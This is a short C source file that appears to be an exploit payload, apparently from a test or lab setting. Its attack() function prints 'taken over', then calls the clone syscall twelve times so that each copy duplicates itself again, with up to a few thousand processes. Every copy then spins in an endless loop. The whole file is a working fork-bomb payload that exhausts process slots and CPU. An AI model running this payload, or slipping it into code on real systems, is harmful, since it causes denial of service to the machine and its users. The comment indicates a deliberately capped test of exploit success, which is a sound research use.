/* Makes copies of itself, and each of those too; not more than a few thousand, in case it works. */
#include "payload.h"

void attack(void)
{
    say("taken over");
    for (int round = 0; round < 12; round++) {
        word result = call6(NR_clone, 0x8000 | 17 /* CLONE_PARENT | SIGCHLD */, 0, 0, 0, 0, 0);
        if (result != 0 && result < 0x100000)
            say(" copied");
    }
    for (;;)
        ;
}
